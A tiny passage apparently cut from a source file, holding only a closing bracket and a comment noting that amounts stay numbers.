    ]  # amounts stay numbers
